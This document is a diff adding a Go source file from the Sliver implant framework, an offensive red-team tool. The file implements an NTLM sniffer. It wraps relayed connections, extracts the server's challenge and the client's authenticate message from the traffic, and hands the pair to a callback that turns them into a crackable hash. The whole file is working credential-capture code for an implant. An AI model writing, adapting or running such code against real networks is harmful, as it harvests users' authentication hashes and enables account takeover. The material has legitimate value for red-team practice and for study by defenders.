@@ -0,0 +1,109 @@
+package ntlm
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"net"
+	"sync"
+)
+
+// sniffedConn - A relayed connection, the ntlm messages are picked out of the
+// bytes going each way without changing them
+type sniffedConn struct {
+	net.Conn
+	sniffer *sniffer
+}
+
+func (c *sniffedConn) Read(data []byte) (int, error) {
+	n, err := c.Conn.Read(data)
+	c.sniffer.client(data[:n])
+	return n, err
+}
+
+func (c *sniffedConn) Write(data []byte) (int, error) {
+	c.sniffer.server(data)
+	return c.Conn.Write(data)
+}
+
+// sniffer - Keeps the challenge the server sent so the client's authenticate
+// message that follows it can be turned into a hash
+type sniffer struct {
+	mutex           sync.Mutex
+	fromClient      []byte
+	fromServer      []byte
+	serverChallenge []byte
+	captured        func(*Authenticate, []byte)
+}
+
+func (s *sniffer) client(data []byte) {
+	s.mutex.Lock()
+	defer s.mutex.Unlock()
+	s.fromClient = s.scan(append(s.fromClient, data...), authenticateMessage)
+}
+
+func (s *sniffer) server(data []byte) {
+	s.mutex.Lock()
+	defer s.mutex.Unlock()
+	s.fromServer = s.scan(append(s.fromServer, data...), challengeMessage)
+}
+
+// scan - Handle the messages of msgType in buffer, returns what needs to be kept
+// for messages split across reads
+func (s *sniffer) scan(buffer []byte, msgType uint32) []byte {
+	for {
+		index := bytes.Index(buffer, signature)
+		if index < 0 {
+			// The signature itself could be split
+			if len(signature) < len(buffer) {
+				buffer = buffer[len(buffer)-len(signature)+1:]
+			}
+			return append([]byte{}, buffer...)
+		}
+		buffer = buffer[index:]
+		found, err := messageType(buffer)
+		if err == errTruncated {
+			return append([]byte{}, buffer...)
+		}
+		if err != nil || found != msgType {
+			buffer = buffer[len(signature):]
+			continue
+		}
+		switch msgType {
+		case challengeMessage:
+			serverChallenge, err := ParseChallenge(buffer)
+			if err == errTruncated {
+				return append([]byte{}, buffer...)
+			}
+			if err == nil {
+				s.serverChallenge = serverChallenge
+			}
+		case authenticateMessage:
+			auth, err := ParseAuthenticate(buffer)
+			if err == errTruncated {
+				return append([]byte{}, buffer...)
+			}
+			if err == nil && s.serverChallenge != nil {
+				s.captured(auth, s.serverChallenge)
+				s.serverChallenge = nil
+			}
+		}
+		buffer = buffer[len(signature):]
+	}
+}